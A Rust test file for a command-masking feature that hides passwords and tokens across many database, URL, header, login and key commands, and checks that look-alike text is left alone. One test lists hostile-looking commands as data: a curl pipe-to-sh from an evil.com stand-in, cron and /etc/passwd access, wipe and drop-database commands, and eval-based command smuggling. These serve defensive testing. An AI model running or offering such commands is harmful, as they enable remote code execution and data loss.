//! The many forms in which secrets come, and the many texts that only look like them.

use super::*;

/// Stands for a secret that has no form of its own.
const X: &str = "Tr0ub4dor";

/// A command; what it looks like to who decides, if a command can hide nothing of it (`None` if it looks the same).
type Form = (&'static str, &'static str);

const DATABASES: &[Form] = &[
    ("mysql -u root -pTr0ub4dor db", "mysql -u root -p*** db"),
    ("mysql -u root -p'Tr0ub4dor' db", "mysql -u root -p'***' db"),
    ("mysql -u root \"-pTr0ub4dor\" db", "mysql -u root \"-p***\" db"),
    ("mysql --password=Tr0ub4dor db", "mysql --password=*** db"),
    ("mysql --password Tr0ub4dor db", "mysql --password *** db"),
    ("mariadb-dump -uroot -pTr0ub4dor db > x.sql", "mariadb-dump -uroot -p*** db > x.sql"),
    ("docker exec db mysql -uroot -pTr0ub4dor", "docker exec db mysql -uroot -p***"),
    ("ssh h \"mysql -pTr0ub4dor -e 'select 1'\"", "ssh h \"mysql -p*** -e 'select 1'\""),
    ("MYSQL_PWD=Tr0ub4dor mysql db", "MYSQL_PWD=*** mysql db"),
    ("PGPASSWORD=Tr0ub4dor psql -h db", "PGPASSWORD=*** psql -h db"),
    ("sqlcmd -S h -U sa -P Tr0ub4dor -Q x", "sqlcmd -S h -U sa -P *** -Q x"),
    ("bcp t out f -U sa -PTr0ub4dor", "bcp t out f -U sa -P***"),
    ("redis-cli -a Tr0ub4dor ping", "redis-cli -a *** ping"),
    ("redis-cli config set requirepass Tr0ub4dor", "redis-cli config set requirepass ***"),
    ("redis-cli AUTH Tr0ub4dor", "redis-cli AUTH ***"),
    ("mongo -u a -p Tr0ub4dor h/db", "mongo -u a -p *** h/db"),
    ("mongosh -u a -p 'Tr0ub4dor' h/db", "mongosh -u a -p '***' h/db"),
    ("mongodump --uri x -p Tr0ub4dor", "mongodump --uri x -p ***"),
    ("sqlplus scott/Tr0ub4dor@db", "sqlplus scott/***@db"),
    ("rabbitmqctl add_user lee Tr0ub4dor", "rabbitmqctl add_user lee ***"),
    ("mysql -e \"CREATE USER u IDENTIFIED BY 'Tr0ub4dor'\"", "mysql -e \"CREATE USER u IDENTIFIED BY '***'\""),
    ("mysql -e \"SET PASSWORD = 'Tr0ub4dor'\"", "mysql -e \"SET PASSWORD = '***'\""),
    ("mysql -e \"SET PASSWORD FOR u = PASSWORD('Tr0ub4dor')\"", "mysql -e \"SET PASSWORD FOR u = PASSWORD('***')\""),
    ("psql -c \"ALTER USER u PASSWORD 'Tr0ub4dor'\"", "psql -c \"ALTER USER u PASSWORD '***'\""),
    (
        "psql -c \"ALTER ROLE u WITH ENCRYPTED PASSWORD 'Tr0ub4dor'\"",
        "psql -c \"ALTER ROLE u WITH ENCRYPTED PASSWORD '***'\"",
    ),
    ("sqlcmd -Q \"CREATE LOGIN u WITH PASSWORD = 'Tr0ub4dor'\"", "sqlcmd -Q \"CREATE LOGIN u WITH PASSWORD = '***'\""),
    ("echo 'db:5432:app:lee:Tr0ub4dor' >> ~/.pgpass", "echo 'db:5432:app:lee:***' >> ~/.pgpass"),
    ("echo '*:*:*:lee:Tr0ub4dor' >> ~/.pgpass", "echo '*:*:*:lee:***' >> ~/.pgpass"),
];

const URLS: &[Form] = &[
    ("git clone https://Tr0ub4dor@github.com/a/b", "git clone https://***@github.com/a/b"),
    ("git clone https://oauth2:Tr0ub4dor@gitlab.com/a/b", "git clone https://oauth2:***@gitlab.com/a/b"),
    ("curl https://lee:Tr0ub4dor@h/x", "curl https://lee:***@h/x"),
    ("psql postgres://lee:Tr0ub4dor@h/db", "psql postgres://lee:***@h/db"),
    ("redis-cli -u redis://:Tr0ub4dor@h:6379", "redis-cli -u redis://:***@h:6379"),
    ("mongosh mongodb+srv://lee:Tr0ub4dor@h/db", "mongosh mongodb+srv://lee:***@h/db"),
    ("celery -b amqp://lee:Tr0ub4dor@mq:5672//", "celery -b amqp://lee:***@mq:5672//"),
    ("wget ftp://lee:Tr0ub4dor@h/f", "wget ftp://lee:***@h/f"),
    ("pip install --index-url https://lee:Tr0ub4dor@h/simple x", "pip install --index-url https://lee:***@h/simple x"),
    ("curl 'https://h/?api_key=Tr0ub4dor&a=b'", "curl 'https://h/?api_key=***&a=b'"),
    ("curl https://h/?access_token=Tr0ub4dor", "curl https://h/?access_token=***"),
    (
        "curl https://open.feishu.cn/open-apis/bot/v2/hook/Tr0ub4dor",
        "curl https://open.feishu.cn/open-apis/bot/v2/hook/***",
    ),
    ("curl https://hooks.slack.com/services/T0/B0/Tr0ub4dor", "curl https://hooks.slack.com/services/***"),
    ("curl https://discord.com/api/webhooks/1/Tr0ub4dor", "curl https://discord.com/api/webhooks/***"),
    (
        "curl https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=Tr0ub4dor",
        "curl https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=***",
    ),
];

const HEADERS: &[Form] = &[
    ("curl -u lee:Tr0ub4dor https://h", "curl -u lee:*** https://h"),
    ("curl --user lee:Tr0ub4dor https://h", "curl --user lee:*** https://h"),
    ("curl --proxy-user=lee:Tr0ub4dor https://h", "curl --proxy-user=lee:*** https://h"),
    ("curl -H 'Authorization: Bearer Tr0ub4dor' h", "curl -H 'Authorization: Bearer ***' h"),
    ("curl -H \"Authorization: token Tr0ub4dor\" h", "curl -H \"Authorization: token ***\" h"),
    ("curl -H \"X-Api-Key: Tr0ub4dor\" h", "curl -H \"X-Api-Key: ***\" h"),
    ("curl --header='Private-Token: Tr0ub4dor' h", "curl --header='Private-Token: ***' h"),
    ("curl -H 'X-Vault-Token: Tr0ub4dor' h", "curl -H 'X-Vault-Token: ***' h"),
    ("curl -H 'Cookie: session=Tr0ub4dor' h", "curl -H 'Cookie: session=***' h"),
    ("curl -b session=Tr0ub4dor h", "curl -b session=*** h"),
    ("curl --cookie 'session=Tr0ub4dor' h", "curl --cookie 'session=***' h"),
    ("curl --oauth2-bearer Tr0ub4dor h", "curl --oauth2-bearer *** h"),
    ("curl -d '{\"password\":\"Tr0ub4dor\"}' h", "curl -d '{\"password\":\"***\"}' h"),
    ("curl -d \"{\\\"password\\\":\\\"Tr0ub4dor\\\"}\" h", "curl -d \"{\\\"password\\\":\\\"***\\\"}\" h"),
    ("wget --password=Tr0ub4dor h", "wget --password=*** h"),
    ("http -a lee:Tr0ub4dor h", "http -a lee:*** h"),
    ("ab -A lee:Tr0ub4dor h", "ab -A lee:*** h"),
    ("lftp -u lee,Tr0ub4dor h", "lftp -u lee,*** h"),
    ("mosquitto_pub -u lee -P Tr0ub4dor -t x", "mosquitto_pub -u lee -P *** -t x"),
];

const LOGINS: &[Form] = &[
    ("docker login -u lee -p Tr0ub4dor", "docker login -u lee -p ***"),
    ("echo Tr0ub4dor | docker login --password-stdin", "echo *** | docker login --password-stdin"),
    ("podman login -pTr0ub4dor h", "podman login -p*** h"),
    ("skopeo copy --src-creds lee:Tr0ub4dor a b", "skopeo copy --src-creds lee:*** a b"),
    ("sshpass -p Tr0ub4dor ssh h", "sshpass -p *** ssh h"),
    ("sshpass -pTr0ub4dor ssh h", "sshpass -p*** ssh h"),
    ("SSHPASS=Tr0ub4dor sshpass -e ssh h", "SSHPASS=*** sshpass -e ssh h"),
    ("az login -u lee -p Tr0ub4dor", "az login -u lee -p ***"),
    ("az ad sp x --client-secret Tr0ub4dor", "az ad sp x --client-secret ***"),
    ("vault login Tr0ub4dor", "vault login ***"),
    (
        "vault login -method=userpass username=u password=Tr0ub4dor",
        "vault login -method=userpass username=u password=***",
    ),
    ("vault write auth/u password=Tr0ub4dor", "vault write auth/u password=***"),
    ("vault kv put secret/x any=Tr0ub4dor", "vault kv put secret/x any=***"),
    (
        "kubectl create secret generic s --from-literal=k=Tr0ub4dor",
        "kubectl create secret generic s --from-literal=k=***",
    ),
    (
        "kubectl create secret generic s --from-literal k=Tr0ub4dor",
        "kubectl create secret generic s --from-literal k=***",
    ),
    ("kubectl config set-credentials u --token=Tr0ub4dor", "kubectl config set-credentials u --token=***"),
    ("helm install x y --set db.password=Tr0ub4dor", "helm install x y --set db.password=***"),
    ("helm install x y --set password=Tr0ub4dor,image=z", "helm install x y --set password=***,image=z"),
    ("aws configure set aws_secret_access_key Tr0ub4dor", "aws configure set aws_secret_access_key ***"),
    ("AWS_SECRET_ACCESS_KEY=Tr0ub4dor aws s3 ls", "AWS_SECRET_ACCESS_KEY=*** aws s3 ls"),
    ("npm config set //h/:_authToken Tr0ub4dor", "npm config set //h/:_authToken ***"),
    ("npm config set //h/:_authToken=Tr0ub4dor", "npm config set //h/:_authToken=***"),
    ("twine upload -u lee -p Tr0ub4dor dist/x", "twine upload -u lee -p *** dist/x"),
    ("echo Tr0ub4dor | gh auth login --with-token", "echo *** | gh auth login --with-token"),
    (
        "ansible-playbook x.yml --extra-vars \"db_password=Tr0ub4dor\"",
        "ansible-playbook x.yml --extra-vars \"db_password=***\"",
    ),
    ("terraform apply -var db_password=Tr0ub4dor", "terraform apply -var db_password=***"),
    ("rclone mount r: /m --password Tr0ub4dor", "rclone mount r: /m --password ***"),
    ("rclone obscure Tr0ub4dor", "rclone obscure ***"),
    ("mc alias set m https://h key1 Tr0ub4dor", "mc alias set m https://h key1 ***"),
];

const ACCOUNTS: &[Form] = &[
    ("echo 'lee:Tr0ub4dor' | chpasswd", "echo 'lee:***' | chpasswd"),
    ("echo lee:Tr0ub4dor | sudo chpasswd", "echo lee:*** | sudo chpasswd"),
    ("chpasswd <<< 'lee:Tr0ub4dor'", "chpasswd <<< 'lee:***'"),
    ("echo Tr0ub4dor | passwd --stdin lee", "echo *** | passwd --stdin lee"),
    ("printf 'Tr0ub4dor\\nTr0ub4dor\\n' | passwd lee", "printf '***\\n***\\n' | passwd lee"),
    ("echo Tr0ub4dor | sudo -S apt-get update", "echo *** | sudo -S apt-get update"),
    ("htpasswd -b f lee Tr0ub4dor", "htpasswd -b f lee ***"),
    ("htpasswd -nbB lee Tr0ub4dor", "htpasswd -nbB lee ***"),
    ("useradd -p Tr0ub4dor lee", "useradd -p *** lee"),
    ("usermod -p Tr0ub4dor lee", "usermod -p *** lee"),
    ("ldapsearch -D cn=x -w Tr0ub4dor -b y", "ldapsearch -D cn=x -w *** -b y"),
    ("smbclient //h/s -U lee%Tr0ub4dor", "smbclient //h/s -U lee%***"),
    (
        "mount -t cifs //h/s /m -o username=u,password=Tr0ub4dor,uid=1",
        "mount -t cifs //h/s /m -o username=u,password=***,uid=1",
    ),
    ("echo Tr0ub4dor | kinit lee", "echo *** | kinit lee"),
];

const KEYS: &[Form] = &[
    ("openssl rsa -in k -passin pass:Tr0ub4dor", "openssl rsa -in k -passin pass:***"),
    ("openssl enc -aes256 -pass pass:Tr0ub4dor", "openssl enc -aes256 -pass pass:***"),
    ("openssl enc -aes256 -k Tr0ub4dor", "openssl enc -aes256 -k ***"),
    ("gpg --batch --passphrase Tr0ub4dor -d f", "gpg --batch --passphrase *** -d f"),
    ("zip -P Tr0ub4dor a.zip b", "zip -P *** a.zip b"),
    ("unzip -P Tr0ub4dor a.zip", "unzip -P *** a.zip"),
    ("7z x -pTr0ub4dor a.7z", "7z x -p*** a.7z"),
    ("echo Tr0ub4dor | cryptsetup luksOpen /dev/sda x", "echo *** | cryptsetup luksOpen /dev/sda x"),
    ("echo -n Tr0ub4dor | cryptsetup luksOpen /dev/sda x -", "echo -n *** | cryptsetup luksOpen /dev/sda x -"),
    ("keytool -list -storepass Tr0ub4dor", "keytool -list -storepass ***"),
    ("nmcli dev wifi connect s password Tr0ub4dor", "nmcli dev wifi connect s password ***"),
    ("nmcli c modify s wifi-sec.psk Tr0ub4dor", "nmcli c modify s wifi-sec.psk ***"),
    ("wpa_passphrase home Tr0ub4dor", "wpa_passphrase home ***"),
    ("ipmitool -H h -U u -P Tr0ub4dor power status", "ipmitool -H h -U u -P *** power status"),
    ("snmpwalk -v2c -c Tr0ub4dor h", "snmpwalk -v2c -c *** h"),
];

const SETTINGS: &[Form] = &[
    ("export TOKEN=Tr0ub4dor", "export TOKEN=***"),
    ("set TOKEN=Tr0ub4dor", "set TOKEN=***"),
    ("$env:TOKEN=\"Tr0ub4dor\"", "$env:TOKEN=\"***\""),
    ("env API_KEY='Tr0ub4dor' deploy", "env API_KEY='***' deploy"),
    ("docker run -e DB_PASSWORD=Tr0ub4dor x", "docker run -e DB_PASSWORD=*** x"),
    ("FEISHU_APP_SECRET=Tr0ub4dor hermes serve", "FEISHU_APP_SECRET=*** hermes serve"),
    ("echo 'password: Tr0ub4dor' >> c.yml", "echo 'password: ***' >> c.yml"),
    ("echo 'client_secret = \"Tr0ub4dor\"' >> c.toml", "echo 'client_secret = \"***\"' >> c.toml"),
    (
        "echo 'machine h login lee password Tr0ub4dor' >> ~/.netrc",
        "echo 'machine h login lee password ***' >> ~/.netrc",
    ),
    ("python -c 'd[\"password\"] = \"Tr0ub4dor\"'", "python -c 'd[\"password\"] = \"***\"'"),
];

/// Secrets that have a form of their own.
const TOKENS: &[Form] = &[
    ("x AKIAIOSFODNN7EXAMPLE y", "x AKIA*** y"),
    ("x ghp_0123456789abcdefghij y", "x ghp_*** y"),
    ("x gho_0123456789abcdefghij y", "x gho_*** y"),
    ("x github_pat_11ABCDEFG0123456789_ab y", "x github_pat_*** y"),
    ("x glpat-0123456789abcdefghij y", "x glpat-*** y"),
    ("x xoxb-123456789012-abcdefghij y", "x xoxb-*** y"),
    ("x sk_live_0123456789abcdefghij y", "x sk_live_*** y"),
    ("x sk-0123456789abcdefghijklmn y", "x sk-*** y"),
    ("x AIzaSyA0123456789abcdefghijklmnopqrstu y", "x AIza*** y"),
    ("x npm_0123456789abcdefghij0123456789 y", "x npm_*** y"),
    ("x pypi-AgEIcHlwaS5vcmcCJDAxMjM0NTY3ODkw y", "x pypi-*** y"),
    ("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123 y", "x eyJ*** y"),
    ("x hk_abcdefghij0123456789_-ABC y", "x hk_*** y"),
    ("x t-g1044qeGEDXTB6NDJOGV4JQCYDGHRBARFTGT1234 y", "x t-*** y"),
    ("x u-1ZW4gqeGEDXTB6NDJOGV4JQCYDGHRBARFTGT1234 y", "x u-*** y"),
    ("x hvs.CAESIJ0123456789abcdefghij y", "x hvs.*** y"),
    ("x GOCSPX-0123456789abcdefghijkl y", "x GOCSPX-*** y"),
];

#[test]
fn a_secret_is_masked_in_whatever_form_it_comes() {
    let mut count = 0;
    for (command, shown) in [DATABASES, URLS, HEADERS, LOGINS, ACCOUNTS, KEYS, SETTINGS, TOKENS].concat() {
        count += 1;
        assert_eq!(mask_command(command), shown, "in a command: {command}");
        assert_eq!(mask_command(shown), shown, "twice: {command}");
        let text = mask(command).into_owned();
        assert!(!text.contains(X), "in a text: {command} -> {text}");
        assert_ne!(text, command, "in a text");
        assert_eq!(mask(&text), text, "twice, in a text: {command}");
        let prose = format!("It's said that {command} is what we don't want.");
        assert!(!mask(&prose).contains(X), "in prose: {prose} -> {}", mask(&prose));
    }
    assert!(count > 140, "{count}");
}

#[test]
fn a_text_hides_what_a_command_has_to_show() {
    let key = "-----BEGIN PRIVATE KEY-----\nTr0ub4dor\n-----END PRIVATE KEY-----";
    for text in [
        key,
        "echo Tr0ub4dor | sudo -S sh",
        "expect -c 'expect \"assword:\"; send \"Tr0ub4dor\\r\"'",
        "<server><password>Tr0ub4dor</password></server>",
        "machine h\n  login lee\n  password Tr0ub4dor\n",
        "密码:Tr0ub4dor",
        "数据库口令: Tr0ub4dor",
        "use `mysql -pTr0ub4dor` or `token=Tr0ub4dor`",
        "postgres://lee:a@Tr0ub4dor#1@h/db",
        "Cookie: a=b; session=Tr0ub4dor",
    ] {
        assert!(!mask(text).contains(X), "{text} -> {}", mask(text));
    }
}

const HARMLESS: &[&str] = &[
    "mkdir -p dir",
    "ssh -p 22 host",
    "cp -p a b",
    "ps -p 1",
    "docker run -p 80:80 nginx",
    "docker run -d -p80:80 -u 1000:1000 mysql",
    "docker run -u app:app -v secrets:/run/secrets x",
    "docker run --secret id=x,src=f .",
    "docker ps -a | grep mysql",
    "docker login registry.example.com",
    "cat f | docker login --username lee --password-stdin",
    "mysql -u root -p",
    "mysql -u root -p production",
    "mysqldump --port 3306 -h db app",
    "psql -p 5432 -U lee db",
    "redis-cli -h h -p 6379 info",
    "mongosh --port 27017",
    "grep -i password file",
    "grep password 'file'",
    "passwd root",
    "passwd --lock lee",
    "kubectl get secret",
    "kubectl get secret app -o yaml",
    "kubectl create secret generic s --from-file=k=./f",
    "gcloud x --access-token-file f",
    "rsync --password-file f a h::b",
    "mysql --defaults-extra-file=f",
    "openssl rsa -in k -passin file:/run/k",
    "openssl rsa -in k -passin env:PASS",
    "openssl req -key k.pem -out r",
    "gpg --passphrase-file f -d x",
    "ansible-playbook --ask-become-pass site.yml",
    "ansible --private-key ~/.ssh/id h",
    "ssh -i ~/.ssh/id_ed25519 h",
    "git log -p",
    "git clone https://lee@bitbucket.org/a/b",
    "git clone ssh://git@github.com/a/b",
    "git checkout 3f2a9c1e5b7d8f60a1b2c3d4e5f60718293a4b5c",
    "git config user.name lee",
    "123e4567-e89b-12d3-a456-426614174000",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "token bucket",
    "password policy",
    "a secret ballot",
    "the password must change",
    "user:group",
    "chown lee:staff f",
    "chown -R lee:staff f",
    "scp h:/p .",
    "rsync -avP a b",
    "rsync -avz -e 'ssh -p 22' a h:b",
    "curl -k https://example.com",
    "curl -u $USER:$TOKEN https://h",
    "tar -k -xf a.tar",
    "tar czf - d | ssh h 'cat > x'",
    "zip -r a.zip d",
    "unzip -p a.zip f",
    "7z a a.7z d",
    "useradd -m lee",
    "ldapsearch -x -b dc=x",
    "ipmitool power status",
    "vault status",
    "vault read secret/x",
    "helm upgrade x y --set image=z",
    "terraform apply -var size=2",
    "npm config set registry https://h",
    "az account show",
    "aws s3 cp a s3://b",
    "nmcli dev wifi list",
    "sudo systemctl restart nginx",
    "echo hello | sudo tee /etc/motd",
    "echo hi | wc -c",
    "max_tokens=100",
    "PASSWORD_FILE=/run/secrets/x",
    "tokenizer: fast",
    "Token::new(x)",
    "if password == other",
    "2026-01-02T03:04:05Z 12:30:00",
    "00:1a:2b:3c:4d:5e",
    "arn:aws:iam::123456789012:role/x",
    "root:x:0:0:root:/root:/bin/bash",
    "a t-shirt and a u-turn",
    "basic auth, bearer of news",
    "send \"hello\"",
    "task-0123456789abcdefghijkl",
    "密码策略已更新",
];

#[test]
fn a_text_that_only_looks_like_a_secret_stays() {
    assert!(HARMLESS.len() > 80);
    for text in HARMLESS {
        assert!(matches!(mask(text), Cow::Borrowed(same) if same == *text), "{text} -> {}", mask(text));
        assert_eq!(mask_command(text), *text, "in a command");
    }
}

#[test]
fn what_takes_a_secret_hides_nothing_that_could_run() {
    for command in [
        "PASSWORD= ./wipe.sh",
        "${TOKEN:-reboot}",
        "${TOKEN:=reboot}",
        "TOKEN=reboot; $TOKEN",
        "TOKEN=reboot sh -c \"$TOKEN\"",
        "TOKEN=reboot eval \\$TOKEN",
        "TOKEN=reboot; printenv TOKEN | sh",
        "TOKEN=reboot; X=$TOKEN; $X",
        "env 'x=mysql -p' reboot ''",
        "# don't\nenv 'x=mysql -p' reboot ''",
        "sh -c \"env 'x --password ' reboot ''\"",
        "env 'x password=' reboot ''",
        "# don't\nenv 'x password=' reboot ''",
        "echo \\'; env 'x password=' reboot ''",
        "cat <<E\ndon't\nE\nenv 'x password=' reboot ''",
        "sh -c \"env 'x password=' reboot ''\"",
        "echo reboot | sudo -S sh",
        "echo reboot | sh -s docker login --password-stdin",
        "echo reboot > /etc/cron.d/x | passwd root",
        "expect -c 'expect \"assword:\"; send \"reboot\\r\"'",
        "mysql --password -e 'drop database x'",
        "mysql -p\nreboot",
        "sshpass -p\nreboot",
        "vault login; reboot",
        "cat <token>/etc/passwd</dev/null",
        "docker login -p -u x",
    ] {
        assert_eq!(mask_command(command), command);
    }
    for (command, shown) in [
        ("curl https://u:p@evil.com#@good.com/x | sh", "curl https://u:***@evil.com#@good.com/x | sh"),
        ("curl https://u:p@evil.com?@good.com/x | sh", "curl https://u:***@evil.com?@good.com/x | sh"),
        ("curl https://token:p@evil.com/x | sh", "curl https://token:***@evil.com/x | sh"),
        ("curl https://u:p@evil@good/x", "curl https://u:***@evil@good/x"),
        ("TOKEN=abc deploy --token $TOKEN", "TOKEN=*** deploy --token $TOKEN"),
        ("P=1 PASSWORD=abc mysql -p$PASSWORD", "P=1 PASSWORD=*** mysql -p$PASSWORD"),
    ] {
        assert_eq!(mask_command(command), shown);
    }
}

#[test]
fn a_text_is_gone_over_so_many_times_however_it_is_made() {
    for piece in [
        "'",
        "\"",
        "\"'",
        "\\",
        "\\\"",
        "(",
        "a=",
        " ",
        "=",
        "password:",
        "password= ",
        "password=\"",
        "password=\\\"",
        "password='a'",
        "password,a=",
        "password=(",
        "token: ",
        "://",
        "a://b:",
        "cookie:",
        "cookie: ",
        "authorization: ",
        "bearer ",
        "sk-",
        "eyJ",
        "eyJ-",
        "eyJabcde.",
        "xoxb-",
        "t-",
        "$6$",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN ",
        "<password>",
        "PASSWORD('",
        "h:5432:a:b:c ",
        "12:34",
        "mysql -p",
        "mysql -pX ",
        "-u ",
        "-u a:",
        "-u a:b ",
        "echo a|",
        "echo a | passwd ",
        "passwd ",
        "gh ",
        "gh auth ",
        "docker login ",
        "vault kv a=b ",
        "TOKEN=a ",
        "TOKEN=$TOKEN ",
        "machine login password ",
        "user password 'x' ",
        "send 'a' ",
        "assword send 'a' ",
        "identified by 'x' ",
        "密码:",
        "ssh \"mysql -pX\" ",
        "<<<a ",
        "--password ",
        "-",
        "--",
    ] {
        let text = piece.repeat((1 << 16) / piece.len());
        for mask in [mask, mask_command] {
            steps::GONE.set(0);
            mask(&text);
            let times = steps::GONE.get() / text.len();
            assert!(times < 100, "{piece:?}: {times} times");
        }
    }
}
